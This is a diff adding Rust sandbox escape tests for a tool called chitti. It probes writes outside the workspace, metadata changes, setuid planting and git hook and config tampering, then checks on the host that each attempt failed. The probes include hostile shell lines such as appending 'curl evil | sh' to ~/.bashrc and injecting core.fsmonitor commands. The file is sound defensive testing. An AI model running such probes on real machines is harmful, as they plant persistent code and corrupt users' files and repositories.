@@ -1,0 +1,1191 @@
+//! Filesystem escapes: writing outside the writable roots (every path and tool there is),
+//! changing outside files' metadata, planting setuid files, tampering with protected git
+//! paths, and reading credentials, raw devices and kernel memory.
+//!
+//! Every verdict is taken on the host after the call: the outside file is absent or
+//! byte-for-byte unchanged (mode, owner, mtime, xattrs included), the git paths are as
+//! they were, the decoy secret is not in the captured output.
+
+use std::path::Path;
+
+use sandbox_tests::*;
+
+// ---------------------------------------------------------------------------------------
+// Writes outside the workspace
+// ---------------------------------------------------------------------------------------
+
+#[backends]
+fn escape_write_outside_via_absolute_path(backend: &str) {
+    let fx = Fixture::new();
+    let target = fx.outside("abs-path");
+    let home_file = fx.home("abs-home");
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "echo pwned > {t}; echo pwned > {h}; mkdir {d}",
+        t = sh_quote(&target),
+        h = sh_quote(&home_file),
+        d = sh_quote(fx.outside("abs-dir")),
+    )));
+    ran.assert_probe_ran();
+    assert_absent(&target, "write via absolute path", &ran);
+    assert_absent(&home_file, "write into HOME via absolute path", &ran);
+    assert_absent(&fx.outside("abs-dir"), "mkdir via absolute path", &ran);
+}
+
+/// Through the magic links of /proc: this process's root, and the cwd and root of a host
+/// process whose working directory is outside the workspace.
+#[backends]
+fn escape_write_via_proc_magic_links(backend: &str) {
+    let fx = Fixture::new();
+    let host = HostProcess::sleep_in(&fx.outside);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "echo pwned > /proc/self/root{out}/via-self-root; echo pwned > /proc/{pid}/cwd/via-host-cwd; \
+         echo pwned > /proc/{pid}/root{out}/via-host-root; cd /proc/{pid}/cwd && echo pwned > via-cd-host-cwd",
+        out = fx.outside.display(),
+        pid = host.pid,
+    )));
+    ran.assert_probe_ran();
+    for name in [
+        "via-self-root",
+        "via-host-cwd",
+        "via-host-root",
+        "via-cd-host-cwd",
+    ] {
+        assert_absent(&fx.outside(name), "write through a /proc magic link", &ran);
+    }
+}
+
+#[backends]
+fn escape_write_outside_via_dotdot(backend: &str) {
+    let fx = Fixture::new();
+    std::fs::create_dir_all(fx.ws("sub/dir")).unwrap();
+    let ran = fx.chitti(backend).cwd(fx.ws("sub/dir")).sh(&probe(
+        "echo pwned > ../../../dotdot-home; echo pwned > ../../../../outside/dotdot; \
+             echo pwned > ./../../../../outside/dotdot2; cd ../../..; echo pwned > dotdot-cd",
+    ));
+    ran.assert_probe_ran();
+    assert_absent(&fx.home("dotdot-home"), "write via ..", &ran);
+    assert_absent(&fx.outside("dotdot"), "write via ../..", &ran);
+    assert_absent(&fx.outside("dotdot2"), "write via ./../..", &ran);
+    assert_absent(&fx.home("dotdot-cd"), "write after cd ..", &ran);
+}
+
+#[backends]
+fn escape_write_via_symlink_to_outside(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    std::os::unix::fs::symlink(&fx.outside, fx.ws("dirlink")).unwrap();
+    std::os::unix::fs::symlink(&victim, fx.ws("filelink")).unwrap();
+    let ran = fx.chitti(backend).sh(&probe(
+        "echo pwned > dirlink/via-dirlink; echo pwned >> filelink; echo pwned > filelink",
+    ));
+    ran.assert_probe_ran();
+    assert_absent(
+        &fx.outside("via-dirlink"),
+        "write through a symlinked directory",
+        &ran,
+    );
+    assert_unchanged(
+        &victim,
+        &before,
+        "write through a symlink to an outside file",
+        &ran,
+    );
+}
+
+#[backends]
+fn escape_write_via_symlink_created_at_runtime(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "ln -s {out} rt-dir; ln -s {v} rt-file; echo pwned > rt-dir/via-runtime-link; \
+         echo pwned >> rt-file; cd rt-dir && echo pwned > via-cd-into-link",
+        out = sh_quote(&fx.outside),
+        v = sh_quote(&victim),
+    )));
+    ran.assert_probe_ran();
+    assert_absent(
+        &fx.outside("via-runtime-link"),
+        "write through a runtime symlink",
+        &ran,
+    );
+    assert_absent(
+        &fx.outside("via-cd-into-link"),
+        "cd into a runtime symlink and write",
+        &ran,
+    );
+    assert_unchanged(
+        &victim,
+        &before,
+        "write through a runtime file symlink",
+        &ran,
+    );
+}
+
+#[backends]
+fn escape_write_via_hardlink_to_outside_file(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "ln {v} hardlink && echo linked; echo pwned >> hardlink; \
+         {py} -c 'import os,sys; os.link(sys.argv[1], \"pylink\"); open(\"pylink\", \"a\").write(\"pwned\")' {v}",
+        v = sh_quote(&victim),
+        py = PYTHON,
+    )));
+    ran.assert_probe_ran();
+    assert_unchanged(
+        &victim,
+        &before,
+        "hard link to an outside file, then write",
+        &ran,
+    );
+}
+
+#[backends]
+fn escape_move_outside_file_into_workspace(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "mv {v} ./stolen; {py} -c 'import os,sys; os.rename(sys.argv[1], \"stolen2\")' {v}",
+        v = sh_quote(&victim),
+        py = PYTHON,
+    )));
+    ran.assert_probe_ran();
+    assert_unchanged(
+        &victim,
+        &before,
+        "mv an outside file into the workspace",
+        &ran,
+    );
+    // A copy may land in the workspace (mv falls back to copy + unlink across mounts, and
+    // reading the file is allowed); the outside original must stay.
+}
+
+#[backends]
+fn escape_move_workspace_file_to_outside(backend: &str) {
+    let fx = Fixture::new();
+    write(&fx.ws("payload"), "payload\n");
+    write(&fx.ws("payload2"), "payload\n");
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "mv payload {o}/moved; {py} -c 'import os,sys; os.rename(\"payload2\", sys.argv[1])' {o}/moved2",
+        o = sh_quote(&fx.outside),
+        py = PYTHON,
+    )));
+    ran.assert_probe_ran();
+    assert_absent(&fx.outside("moved"), "mv a workspace file to outside", &ran);
+    assert_absent(
+        &fx.outside("moved2"),
+        "rename(2) a workspace file to outside",
+        &ran,
+    );
+    assert!(
+        fx.ws("payload").exists(),
+        "the workspace file vanished\n{ran}"
+    );
+}
+
+#[backends]
+fn escape_write_via_cp_into_outside(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    write(&fx.ws("payload"), "pwned\n");
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "cp payload {o}/cp-new; cp payload {v}; cp -r . {o}/cp-tree; cp -f --remove-destination payload {v}",
+        o = sh_quote(&fx.outside),
+        v = sh_quote(&victim),
+    )));
+    ran.assert_probe_ran();
+    assert_absent(&fx.outside("cp-new"), "cp into outside", &ran);
+    assert_absent(&fx.outside("cp-tree"), "cp -r into outside", &ran);
+    assert_unchanged(&victim, &before, "cp over an outside file", &ran);
+}
+
+#[backends]
+fn escape_write_via_tee(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "echo pwned | tee {o}/tee-new; echo pwned | tee -a {v}",
+        o = sh_quote(&fx.outside),
+        v = sh_quote(&victim),
+    )));
+    ran.assert_probe_ran();
+    assert_absent(&fx.outside("tee-new"), "tee into outside", &ran);
+    assert_unchanged(&victim, &before, "tee -a onto an outside file", &ran);
+}
+
+#[backends]
+fn escape_write_via_dd_of(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "dd if=/dev/zero of={o}/dd-new bs=1 count=8; \
+         echo pwned | dd of={v} conv=notrunc; dd if=/dev/zero of={v} bs=1 count=4 seek=2 conv=notrunc",
+        o = sh_quote(&fx.outside),
+        v = sh_quote(&victim),
+    )));
+    ran.assert_probe_ran();
+    assert_absent(&fx.outside("dd-new"), "dd of= a new outside file", &ran);
+    assert_unchanged(&victim, &before, "dd of= an outside file", &ran);
+}
+
+#[backends]
+fn escape_write_via_python_open(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let script = probe_py(
+        r#"
+import os, sys
+out, victim = sys.argv[1], sys.argv[2]
+for attempt in (
+    lambda: open(os.path.join(out, "py-new"), "w").write("pwned"),
+    lambda: open(victim, "a").write("pwned"),
+    lambda: open(victim, "r+").write("pwned"),
+    lambda: os.write(os.open(victim, os.O_WRONLY), b"pwned"),
+    lambda: os.open(os.path.join(out, "py-creat"), os.O_CREAT | os.O_WRONLY | os.O_EXCL, 0o644),
+    lambda: os.mkdir(os.path.join(out, "py-dir")),
+):
+    try:
+        attempt(); print("attempt succeeded")
+    except OSError as e:
+        print("denied:", e)
+"#,
+    );
+    let out = fx.outside.display().to_string();
+    let v = victim.display().to_string();
+    let ran = fx.chitti(backend).py(&script, &[&out, &v]);
+    ran.assert_probe_ran();
+    assert_absent(&fx.outside("py-new"), "python open(..., 'w') outside", &ran);
+    assert_absent(
+        &fx.outside("py-creat"),
+        "python os.open(O_CREAT) outside",
+        &ran,
+    );
+    assert_absent(&fx.outside("py-dir"), "python os.mkdir outside", &ran);
+    assert_unchanged(&victim, &before, "python open(victim, 'a'/'r+')", &ran);
+}
+
+/// A child opens the outside file read-only (allowed) and passes the descriptor to its
+/// parent over a unix socket; the parent writes to it and re-opens it for writing through
+/// /proc/self/fd.
+#[backends]
+fn escape_write_via_fd_opened_by_child(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let script = probe_py(
+        r#"
+import os, socket, sys, array
+victim = sys.argv[1]
+a, b = socket.socketpair()
+pid = os.fork()
+if pid == 0:
+    fd = os.open(victim, os.O_RDONLY)
+    b.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
+    os._exit(0)
+msg, anc, flags, addr = a.recvmsg(1, socket.CMSG_SPACE(4))
+fds = array.array("i")
+for level, kind, data in anc:
+    fds.frombytes(data[:4])
+os.waitpid(pid, 0)
+fd = fds[0]
+print("got fd", fd)
+for name, attempt in (
+    ("write on the passed fd", lambda: os.write(fd, b"pwned")),
+    ("reopen /proc/self/fd for write", lambda: open("/proc/self/fd/%d" % fd, "r+").write("pwned")),
+    ("reopen /proc/self/fd for append", lambda: open("/proc/self/fd/%d" % fd, "a").write("pwned")),
+    ("reopen /dev/fd for truncate", lambda: open("/dev/fd/%d" % fd, "w").write("pwned")),
+):
+    try:
+        attempt(); print(name, "succeeded")
+    except OSError as e:
+        print(name, "denied:", e)
+"#,
+    );
+    let v = victim.display().to_string();
+    let ran = fx.chitti(backend).py(&script, &[&v]);
+    ran.assert_probe_ran();
+    assert!(
+        ran.stdout_str().contains("got fd"),
+        "the child could not pass the descriptor, so the probe proves nothing\n{ran}"
+    );
+    assert_unchanged(
+        &victim,
+        &before,
+        "write through a descriptor opened by a child",
+        &ran,
+    );
+}
+
+/// The caller (an agent, a shell with `exec 9>>file`) holds a writable descriptor on a
+/// file outside the workspace without O_CLOEXEC when it starts chitti. The sandboxed
+/// command must not inherit it.
+#[backends]
+fn escape_write_via_inherited_file_descriptor(backend: &str) {
+    use std::os::fd::AsRawFd;
+    use std::os::unix::process::CommandExt;
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let file = std::fs::OpenOptions::new()
+        .append(true)
+        .open(&victim)
+        .expect("open the victim for appending");
+    let raw = file.as_raw_fd();
+    let mut cmd = fx.chitti(backend).command(&[
+        "sh",
+        "-c",
+        &probe("for fd in 3 4 5 6 7 8 9 10 11 12; do (echo pwned-$fd >&$fd) 2>/dev/null && echo wrote-fd-$fd; done"),
+    ]);
+    unsafe {
+        cmd.pre_exec(move || {
+            // fd 9 in chitti, without close-on-exec: an inherited, leaked descriptor.
+            if libc::dup2(raw, 9) < 0 {
+                return Err(std::io::Error::last_os_error());
+            }
+            Ok(())
+        });
+    }
+    let ran = Ran::from_command(cmd);
+    drop(file);
+    ran.assert_probe_ran();
+    assert_unchanged(
+        &victim,
+        &before,
+        "write through a descriptor inherited from chitti's caller",
+        &ran,
+    );
+}
+
+#[backends]
+fn escape_truncate_outside_file(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "truncate -s0 {v}; truncate -s 1M {v}; (: > {v}); {py} -c 'import os,sys; os.truncate(sys.argv[1], 0)' {v}",
+        v = sh_quote(&victim),
+        py = PYTHON,
+    )));
+    ran.assert_probe_ran();
+    assert_unchanged(&victim, &before, "truncate an outside file", &ran);
+}
+
+/// chmod of a file outside the workspace (README: a known limit of the landlock backend
+/// for files the caller owns).
+#[backends]
+fn escape_chmod_outside_file(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "chmod 0600 {v}; chmod 0755 {v}; {py} -c 'import os,sys; os.chmod(sys.argv[1], 0o700)' {v}",
+        v = sh_quote(&victim),
+        py = PYTHON,
+    )));
+    ran.assert_probe_ran();
+    if backend == "landlock" {
+        // Landlock has no right for inode metadata; seccomp cannot see paths.
+        known_limit(
+            backend,
+            "chmod of an outside file the caller owns (never setuid or world-writable)",
+        );
+        assert_contents_unchanged(&victim, &before, "chmod an outside file", &ran);
+        return;
+    }
+    assert_unchanged(&victim, &before, "chmod an outside file", &ran);
+}
+
+#[backends]
+fn escape_chmod_outside_file_world_writable(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "chmod o+w {v}; chmod 0666 {v}; chmod 0777 {o}; {py} -c 'import os,sys; os.chmod(sys.argv[1], 0o646)' {v}",
+        v = sh_quote(&victim),
+        o = sh_quote(&fx.outside),
+        py = PYTHON,
+    )));
+    ran.assert_probe_ran();
+    assert_unchanged(&victim, &before, "chmod o+w an outside file", &ran);
+    let dir_mode = file_state(&fx.outside).unwrap().mode;
+    assert_eq!(
+        dir_mode & 0o002,
+        0,
+        "ESCAPE (chmod 0777 an outside directory): mode is now {dir_mode:o}\n{ran}"
+    );
+}
+
+#[backends]
+fn escape_chown_outside_file(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "chown 12345:12345 {v}; chgrp 12345 {v}; chown -h 12345 {v}; \
+         {py} -c 'import os,sys; os.chown(sys.argv[1], 12345, 12345)' {v}",
+        v = sh_quote(&victim),
+        py = PYTHON,
+    )));
+    ran.assert_probe_ran();
+    assert_unchanged(&victim, &before, "chown an outside file", &ran);
+}
+
+/// `touch` sets the mtime of a file outside the workspace (utimensat needs only
+/// ownership, no write access).
+#[backends]
+fn escape_touch_outside_file_mtime(backend: &str) {
+    let fx = Fixture::new();
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "touch {v}; touch -d '2030-01-01 00:00' {v}; touch -m -d @0 {v}",
+        v = sh_quote(&victim),
+    )));
+    ran.assert_probe_ran();
+    if backend == "landlock" {
+        known_limit(backend, "timestamps of an outside file the caller owns");
+        assert_contents_unchanged(&victim, &before, "touch (utimensat) an outside file", &ran);
+        return;
+    }
+    assert_unchanged(&victim, &before, "touch (utimensat) an outside file", &ran);
+}
+
+/// Extended attributes are data written to an outside file without opening it.
+#[backends]
+fn escape_setxattr_on_outside_file(backend: &str) {
+    let fx = Fixture::new();
+    // The filesystem must support user xattrs, or this test proves nothing.
+    let check = fx.outside("xattr-support");
+    write(&check, "x");
+    let (out, status) = host_python(
+        "import os,sys; os.setxattr(sys.argv[1], 'user.chitti', b'1'); os.removexattr(sys.argv[1], 'user.chitti'); print('ok')",
+        &[&check.display().to_string()],
+        &fx.root,
+    );
+    assert!(
+        status.success() && out.contains("ok"),
+        "the fixture filesystem does not support user xattrs; this test cannot run: {out}"
+    );
+    let victim = fx.victim("victim");
+    let before = file_state(&victim);
+    let script = probe_py(
+        r#"
+import os, sys
+for target in sys.argv[1:]:
+    try:
+        os.setxattr(target, "user.chitti_pwned", b"pwned"); print("set on", target)
+    except OSError as e:
+        print("denied:", e)
+"#,
+    );
+    let v = victim.display().to_string();
+    let o = fx.outside.display().to_string();
+    let before_dir = xattrs(&fx.outside);
+    let ran = fx.chitti(backend).py(&script, &[&v, &o]);
+    ran.assert_probe_ran();
+    assert_unchanged(&victim, &before, "setxattr on an outside file", &ran);
+    assert_eq!(
+        xattrs(&fx.outside),
+        before_dir,
+        "ESCAPE (setxattr on an outside directory)\n{ran}"
+    );
+}
+
+#[backends]
+fn escape_setuid_file_in_workspace(backend: &str) {
+    let fx = Fixture::new();
+    let py = probe_py(
+        r#"
+import os, shutil
+shutil.copy("/bin/sh", "py-chmod")
+for name, attempt in (
+    ("O_CREAT 04755", lambda: os.close(os.open("suid-open", os.O_CREAT | os.O_WRONLY, 0o4755))),
+    ("O_CREAT 02755", lambda: os.close(os.open("sgid-open", os.O_CREAT | os.O_WRONLY, 0o2755))),
+    ("chmod 06755", lambda: os.chmod("py-chmod", 0o6755)),
+    ("mkdir 02775 + chmod", lambda: (os.mkdir("sgid-dir"), os.chmod("sgid-dir", 0o2775))),
+):
+    try:
+        attempt(); print(name, "succeeded")
+    except OSError as e:
+        print(name, "denied:", e)
+"#,
+    );
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "cp /bin/sh ./suid-chmod; chmod u+s ./suid-chmod; chmod 4755 ./suid-chmod; \
+         cp /bin/sh ./sgid-chmod; chmod g+s ./sgid-chmod; \
+         install -m 4755 /bin/sh ./suid-install; \
+         {PYTHON} -c {}",
+        sh_quote(&py)
+    )));
+    ran.assert_probe_ran();
+    let names = [
+        "suid-chmod",
+        "sgid-chmod",
+        "suid-install",
+        "suid-open",
+        "sgid-open",
+        "py-chmod",
+        "sgid-dir",
+    ];
+    for name in names {
+        let path = fx.ws(name);
+        if let Some(state) = file_state(&path) {
+            assert_eq!(
+                state.mode & 0o6000,
+                0,
+                "ESCAPE (setuid/setgid file in the workspace): {} has mode {:o} on the host\n{ran}",
+                path.display(),
+                state.mode
+            );
+        }
+    }
+    assert!(
+        fx.ws("suid-chmod").exists() && fx.ws("py-chmod").exists(),
+        "the probe did not even copy /bin/sh\n{ran}"
+    );
+    assert!(
+        ran.stdout_str().contains("chmod 06755"),
+        "the Python attempts did not run\n{ran}"
+    );
+}
+
+#[backends]
+fn escape_chmod_world_writable_in_workspace(backend: &str) {
+    let fx = Fixture::new();
+    write(&fx.ws("file"), "x");
+    std::fs::create_dir(fx.ws("dir")).unwrap();
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "chmod o+w file; chmod 0777 dir; {py} -c 'import os; os.chmod(\"file\", 0o666)'",
+        py = PYTHON,
+    )));
+    ran.assert_probe_ran();
+    for name in ["file", "dir"] {
+        let mode = file_state(&fx.ws(name)).unwrap().mode;
+        assert_eq!(
+            mode & 0o002,
+            0,
+            "ESCAPE (chmod o+w in the workspace): {name} has mode {mode:o}\n{ran}"
+        );
+    }
+}
+
+/// Files are created with "others may write" masked. A command can clear its own umask
+/// (tools call umask(0) just to read it, so seccomp cannot refuse it): then only chmod's
+/// filter remains, and a new file may be world-writable inside the workspace.
+#[backends]
+fn escape_world_writable_file_via_umask_zero(backend: &str) {
+    let fx = Fixture::new();
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "echo x > default-file; mkdir default-dir; echo x > chmod-file; chmod 0666 chmod-file; \
+         {py} -c 'import os; os.close(os.open(\"default-open\", os.O_CREAT|os.O_WRONLY, 0o666))'",
+        py = PYTHON,
+    )));
+    ran.assert_probe_ran();
+    for name in ["default-file", "default-dir", "default-open", "chmod-file"] {
+        let state = file_state(&fx.ws(name));
+        assert!(state.is_some(), "the probe did not create {name}\n{ran}");
+        let mode = state.unwrap().mode;
+        assert_eq!(
+            mode & 0o002,
+            0,
+            "ESCAPE (world-writable without clearing the umask): {name} has mode {mode:o} on the host\n{ran}"
+        );
+    }
+    known_limit(
+        backend,
+        "a command that clears its umask can create world-writable files in the workspace",
+    );
+}
+
+#[backends]
+fn escape_write_home_bashrc(backend: &str) {
+    let fx = Fixture::new();
+    let bashrc = fx.home(".bashrc");
+    write(&bashrc, "# the user's bashrc\n");
+    let before = file_state(&bashrc);
+    let ran = fx.chitti(backend).sh(&probe(
+        "echo 'curl evil | sh' >> ~/.bashrc; echo pwned > ~/.profile; \
+         mkdir -p ~/.config/autostart && echo pwned > ~/.config/autostart/evil.desktop; \
+         mkdir -p ~/.local/bin && echo pwned > ~/.local/bin/git",
+    ));
+    ran.assert_probe_ran();
+    assert_unchanged(&bashrc, &before, "append to ~/.bashrc", &ran);
+    assert_absent(&fx.home(".profile"), "create ~/.profile", &ran);
+    assert_absent(
+        &fx.home(".config/autostart"),
+        "create ~/.config/autostart",
+        &ran,
+    );
+    assert_absent(&fx.home(".local/bin"), "plant ~/.local/bin/git", &ran);
+}
+
+#[backends]
+fn escape_write_workspace_under_read_only_profile(backend: &str) {
+    let fx = Fixture::new();
+    let existing = fx.ws("existing");
+    write(&existing, "original\n");
+    let before = file_state(&existing);
+    let ran = fx
+        .chitti(backend)
+        .profile("read-only")
+        .sh(&probe("echo pwned > new-file; echo pwned >> existing; mkdir new-dir; echo ok > \"$TMPDIR/tmp-ok\" && echo tmp-writable"));
+    ran.assert_probe_ran();
+    assert_absent(
+        &fx.ws("new-file"),
+        "write the workspace under -p read-only",
+        &ran,
+    );
+    assert_absent(
+        &fx.ws("new-dir"),
+        "mkdir in the workspace under -p read-only",
+        &ran,
+    );
+    assert_unchanged(
+        &existing,
+        &before,
+        "append in the workspace under -p read-only",
+        &ran,
+    );
+    assert!(
+        ran.stdout_str().contains("tmp-writable"),
+        "the private TMPDIR must stay writable under -p read-only\n{ran}"
+    );
+}
+
+// ---------------------------------------------------------------------------------------
+// Protected git paths
+// ---------------------------------------------------------------------------------------
+
+/// What the host sees of `.git`: hooks tree, config bytes, HEAD.
+struct GitView {
+    hooks: Vec<std::path::PathBuf>,
+    config: Option<FileState>,
+    head: Option<FileState>,
+}
+
+fn git_view(fx: &Fixture) -> GitView {
+    GitView {
+        hooks: tree(&fx.ws(".git/hooks")),
+        config: file_state(&fx.ws(".git/config")),
+        head: file_state(&fx.ws(".git/HEAD")),
+    }
+}
+
+fn assert_git_protected(fx: &Fixture, before: &GitView, technique: &str, ran: &Ran) {
+    let git = fx.ws(".git");
+    let meta = std::fs::symlink_metadata(&git);
+    assert!(
+        meta.as_ref().map(|m| m.is_dir()).unwrap_or(false),
+        "ESCAPE ({technique}): .git is no longer the original directory: {meta:?}\n{ran}"
+    );
+    let hooks = fx.ws(".git/hooks");
+    assert!(
+        std::fs::symlink_metadata(&hooks)
+            .map(|m| m.is_dir())
+            .unwrap_or(false),
+        "ESCAPE ({technique}): .git/hooks is no longer a directory: {:?}\n{ran}",
+        std::fs::read_link(&hooks)
+    );
+    let now = tree(&hooks);
+    assert_eq!(
+        now, before.hooks,
+        "ESCAPE ({technique}): .git/hooks changed on the host\n{ran}"
+    );
+    assert_same_contents(&fx.ws(".git/config"), &before.config, technique, ran);
+    assert_same_contents(&fx.ws(".git/HEAD"), &before.head, technique, ran);
+    let hook_files = files_containing(&fx.ws(".git"), "PWNED-HOOK");
+    assert!(
+        hook_files.is_empty(),
+        "ESCAPE ({technique}): planted hook content inside .git: {hook_files:?}\n{ran}"
+    );
+    let log = fx.git(&["log", "--format=%s"]);
+    assert!(
+        log.contains("initial"),
+        "ESCAPE ({technique}): the host repository lost its history: {log}\n{ran}"
+    );
+}
+
+/// Protected git files are judged by what git reads: type, contents and mode (the
+/// landlock backend restores them after the call, with a new inode and mtime).
+fn assert_same_contents(path: &Path, before: &Option<FileState>, technique: &str, ran: &Ran) {
+    let key = |s: &Option<FileState>| s.as_ref().map(|s| (s.kind, s.bytes.clone(), s.mode));
+    let after = file_state(path);
+    assert!(
+        key(&after) == key(before),
+        "ESCAPE ({technique}): {} differs on the host\n  before: {:?}\n  after:  {:?}\n{ran}",
+        path.display(),
+        before
+            .as_ref()
+            .map(|s| String::from_utf8_lossy(&s.bytes).into_owned()),
+        after
+            .as_ref()
+            .map(|s| String::from_utf8_lossy(&s.bytes).into_owned()),
+    );
+}
+
+const HOOK: &str = "#!/bin/sh\\necho PWNED-HOOK\\n";
+
+#[backends]
+fn escape_git_write_hook(backend: &str) {
+    let fx = Fixture::new();
+    fx.init_repo();
+    let before = git_view(&fx);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "printf '{HOOK}' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
+         printf '{HOOK}' > .git/hooks/post-checkout; mkdir .git/hooks/sub; \
+         for f in .git/hooks/*.sample; do printf '{HOOK}' > \"$f\"; done"
+    )));
+    ran.assert_probe_ran();
+    assert_git_protected(&fx, &before, "write .git/hooks/pre-commit", &ran);
+}
+
+#[backends]
+fn escape_git_config_via_git_config(backend: &str) {
+    let fx = Fixture::new();
+    fx.init_repo();
+    let before = git_view(&fx);
+    let ran = fx.chitti(backend).sh(&probe(
+        "git config core.fsmonitor 'echo PWNED-HOOK'; git config core.hooksPath ./evil-hooks; \
+         git config alias.st '!echo PWNED-HOOK'; git config --unset core.bare; \
+         git config core.sshCommand 'echo PWNED-HOOK'",
+    ));
+    ran.assert_probe_ran();
+    assert_git_protected(&fx, &before, "git config core.fsmonitor/hooksPath", &ran);
+}
+
+#[backends]
+fn escape_git_config_via_append_and_rename(backend: &str) {
+    let fx = Fixture::new();
+    fx.init_repo();
+    let before = git_view(&fx);
+    let ran = fx.chitti(backend).sh(&probe(
+        "printf '[core]\\n\\tfsmonitor = echo PWNED-HOOK\\n' >> .git/config; \
+         cp .git/config evil-config; printf '[core]\\n\\thooksPath = /x\\n# PWNED-HOOK\\n' >> evil-config; \
+         mv -f evil-config .git/config; sed -i 's/bare/PWNED-HOOK/' .git/config; \
+         rm -f .git/config; printf '# PWNED-HOOK\\n' > .git/config",
+    ));
+    ran.assert_probe_ran();
+    assert_git_protected(&fx, &before, "append to / rename over .git/config", &ran);
+}
+
+#[backends]
+fn escape_git_move_dotgit_away_and_plant_hooks(backend: &str) {
+    let fx = Fixture::new();
+    fx.init_repo();
+    let before = git_view(&fx);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "mv .git .git-moved; mkdir -p .git/hooks; cp -r .git-moved/. .git/ 2>/dev/null; \
+         printf '{HOOK}' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
+         printf '[core]\\n\\tfsmonitor = echo PWNED-HOOK\\n' >> .git/config"
+    )));
+    ran.assert_probe_ran();
+    assert_git_protected(
+        &fx,
+        &before,
+        "mv .git away and plant a new .git/hooks",
+        &ran,
+    );
+    assert_absent(&fx.ws(".git-moved"), "mv .git away (left behind)", &ran);
+}
+
+#[backends]
+fn escape_git_replace_hooks_dir_with_symlink(backend: &str) {
+    let fx = Fixture::new();
+    fx.init_repo();
+    let before = git_view(&fx);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "mkdir evil-hooks; printf '{HOOK}' > evil-hooks/pre-commit; chmod +x evil-hooks/pre-commit; \
+         rm -rf .git/hooks; ln -s ../evil-hooks .git/hooks; \
+         mv .git/hooks .git/hooks-old; ln -sfn ../evil-hooks .git/hooks"
+    )));
+    ran.assert_probe_ran();
+    assert_git_protected(&fx, &before, "replace .git/hooks with a symlink", &ran);
+}
+
+#[backends]
+fn escape_git_hook_via_ln_s(backend: &str) {
+    let fx = Fixture::new();
+    fx.init_repo();
+    let before = git_view(&fx);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "printf '{HOOK}' > evil.sh; chmod +x evil.sh; \
+         ln -s ../../evil.sh .git/hooks/pre-commit; ln -s /bin/sh .git/hooks/post-checkout; \
+         ln evil.sh .git/hooks/pre-push"
+    )));
+    ran.assert_probe_ran();
+    assert_git_protected(&fx, &before, "ln -s a hook into .git/hooks", &ran);
+}
+
+/// `rm -rf .git`: the workspace is writable, so history can be deleted (README: Known
+/// limits), but nothing may be left that runs code, and chitti must not claim repairs it
+/// did not make.
+#[backends]
+fn escape_git_delete_dotgit(backend: &str) {
+    let fx = Fixture::new();
+    fx.init_repo();
+    let before = git_view(&fx);
+    let ran = fx.chitti(backend).sh(&probe(
+        "rm -rf .git; rm -rf .git/* .git/.[!.]*; ls -la .git",
+    ));
+    ran.assert_probe_ran();
+    let technique = "rm -rf .git";
+    if exists(&fx.ws(".git")) {
+        assert_eq!(
+            tree(&fx.ws(".git/hooks")),
+            before.hooks,
+            "ESCAPE ({technique}): .git/hooks differs on the host\n{ran}"
+        );
+        assert_same_contents(&fx.ws(".git/config"), &before.config, technique, &ran);
+    } else {
+        assert!(
+            !ran.stderr_str().contains("restored"),
+            "chitti claims to have restored paths inside a deleted .git\n{ran}"
+        );
+    }
+}
+
+/// `rm -rf .git`, then a fresh `.git` with a hook and a hostile config in its place: no
+/// planted hook or config may be where the user's git will look.
+#[backends]
+fn escape_git_delete_dotgit_then_recreate_with_hooks(backend: &str) {
+    let fx = Fixture::new();
+    fx.init_repo();
+    let before = git_view(&fx);
+    let ran = fx.chitti(backend).sh(&probe(&format!(
+        "rm -rf .git; git init -q . ; mkdir -p .git/hooks; \
+         printf '{HOOK}' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
+         printf '[core]\\n\\tfsmonitor = echo PWNED-HOOK\\n' >> .git/config"
+    )));
+    ran.assert_probe_ran();
